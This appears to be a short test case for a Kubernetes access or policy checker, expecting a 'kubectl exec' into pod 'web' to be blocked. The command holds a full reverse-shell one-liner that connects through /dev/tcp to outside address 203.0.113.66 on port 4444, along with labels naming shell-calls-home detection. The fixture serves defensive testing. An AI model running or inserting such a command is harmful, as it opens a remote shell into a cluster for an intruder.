# A container is made to call home with a shell.
#
# may: get pods
# may: get,create pods/exec
# also: exec-into-pod: it reports every session
# also: exec-shell: it is a shell that calls home

fails kubectl exec web -- bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
